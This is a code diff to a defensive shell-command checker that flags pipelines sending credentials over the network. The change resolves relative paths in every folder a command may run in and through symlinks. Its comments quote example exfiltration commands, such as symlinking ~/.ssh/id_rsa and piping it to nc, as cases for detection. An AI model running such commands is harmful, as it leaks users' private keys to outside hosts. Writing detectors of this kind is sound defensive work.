@@ -18,6 +18,7 @@ import { programForms } from '../programs/table';
 import { hardlineFinding, type HardlineFinding } from './arms';
 import { commandName, literalText } from './commandName';
 import { credentialKind, isNetworkDevicePath, wordPathText } from './paths';
+import { landingPaths, type PathPlace } from '../programs/pathResolver';
 import { readTextCommands } from './textCommands';
 
 /** One command of a pipeline, with its wrappers already peeled. */
@@ -26,6 +27,8 @@ export interface PipelineCommand {
   redirects: readonly Redirect[];
   /** Index (in the same list) of the command whose output this one reads through a pipe, or -1. */
   pipedFrom: number;
+  /** Where it runs: a relative path is judged in every folder it may land in (`cd ~/.ssh && cat id_rsa`). */
+  place: PathPlace;
 }
 
 /** How a sink's own arguments are read: which option values are not data it sends. */
@@ -222,18 +225,18 @@ function sentWords(reading: SinkReading, args: readonly Word[], skipAuth = false
  * deduplicated) first: a path met twice gives the same answer twice, so the first hit is the
  * same, and the usual word (no credential) costs no list.
  */
-function credentialInWord(word: Word, home: string): string | null {
+function credentialInWord(word: Word, place: PathPlace): string | null {
   const text = wordPathText(word);
   if (text === '' || text.includes('://')) return null;
-  let found = credentialAt(text, home);
+  let found = credentialAt(text, place);
   if (found !== null) return found;
   const at = text.lastIndexOf('@');
-  if (at !== -1 && (found = credentialAt(text.slice(at + 1), home)) !== null) return found;
+  if (at !== -1 && (found = credentialAt(text.slice(at + 1), place)) !== null) return found;
   const eq = text.indexOf('=');
-  if (eq !== -1 && (found = credentialAt(text.slice(eq + 1).replace(/^@/, ''), home)) !== null) return found;
+  if (eq !== -1 && (found = credentialAt(text.slice(eq + 1).replace(/^@/, ''), place)) !== null) return found;
   const colon = text.indexOf(':');
-  if (colon !== -1 && (found = credentialAt(upTo(text.slice(colon + 1), ','), home)) !== null) return found;
-  return credentialAt(upTo(text, ','), home);
+  if (colon !== -1 && (found = credentialAt(upTo(text.slice(colon + 1), ','), place)) !== null) return found;
+  return credentialAt(upTo(text, ','), place);
 }
 
 /** The text before the first `separator` (all of it when there is none): `split(separator)[0]`. */
@@ -242,18 +245,27 @@ function upTo(text: string, separator: string): string {
   return end === -1 ? text : text.slice(0, end);
 }
 
-/** One path of {@link credentialInWord}: cut at `;`, then judged unless empty. */
-function credentialAt(candidate: string, home: string): string | null {
+/**
+ * One path of {@link credentialInWord}: cut at `;`, then judged unless empty — as written (a
+ * `.env` is one wherever it is), then where it lands: in each folder the command may run in, and
+ * through the links made on the line or found on disk (`ln -s ~/.ssh/id_rsa k; cat k | nc h 1`).
+ */
+function credentialAt(candidate: string, place: PathPlace): string | null {
   const path = upTo(candidate, ';');
   if (path === '') return null;
-  const kind = credentialKind(path, home);
-  return kind === null ? null : `${kind} (${path})`;
+  const kind = credentialKind(path, place.home);
+  if (kind !== null) return `${kind} (${path})`;
+  for (const landed of landingPaths(path, place, true).paths) {
+    const there = credentialKind(landed, place.home);
+    if (there !== null) return `${there} (${path}, in ${landed})`;
+  }
+  return null;
 }
 
 /** The first credential named by `words[from…]`. */
-function credentialIn(words: readonly Word[], from: number, home: string): string | null {
+function credentialIn(words: readonly Word[], from: number, place: PathPlace): string | null {
   for (let k = from; k < words.length; k++) {
-    const found = credentialInWord(words[k]!, home);
+    const found = credentialInWord(words[k]!, place);
     if (found !== null) return found;
   }
   return null;
@@ -277,12 +289,12 @@ function exportsSecretKeys(argv: readonly Word[]): boolean {
 }
 
 /** What secret a command puts on its output (or sends itself), or null. */
-function sourceOf(command: PipelineCommand, home: string): string | null {
-  const { peeled, redirects } = command;
+function sourceOf(command: PipelineCommand): string | null {
+  const { peeled, redirects, place } = command;
   for (let k = 0; k < redirects.length; k++) {
     const redirect = redirects[k]!;
     if (redirect.op !== '<' && redirect.op !== '<>') continue;
-    const fromInput = credentialInWord(redirect.target, home);
+    const fromInput = credentialInWord(redirect.target, place);
     if (fromInput !== null) return fromInput;
   }
   const argv = peeled.argv;
@@ -296,8 +308,8 @@ function sourceOf(command: PipelineCommand, home: string): string | null {
   if ((name === 'export' || name === 'declare' || name === 'typeset') && onlyOptions(argv)) return `every shell variable (${name})`;
   if ((name === 'gpg' || name === 'gpg2') && exportsSecretKeys(argv)) return 'GnuPG secret keys';
   if (NOT_READERS.has(name)) return null;
-  if (Object.prototype.hasOwnProperty.call(SINKS, name)) return credentialIn(sentWords(SINKS[name]!, argv.slice(1)), 0, home);
-  return credentialIn(argv, 1, home);
+  if (Object.prototype.hasOwnProperty.call(SINKS, name)) return credentialIn(sentWords(SINKS[name]!, argv.slice(1)), 0, place);
+  return credentialIn(argv, 1, place);
 }
 
 /**
@@ -313,7 +325,7 @@ export function checkExfiltration(pipeline: readonly PipelineCommand[], home: st
   // Most pipelines send nothing anywhere; only then are their words read for credentials.
   if (sink === null) return null;
   for (const command of pipeline) {
-    const source = sourceOf(command, home);
+    const source = sourceOf(command);
     if (source !== null) return hardlineFinding('credential-exfiltration', `${source} goes to ${sink}`);
   }
   return printedSecretJoined(pipeline, home, openSocket);
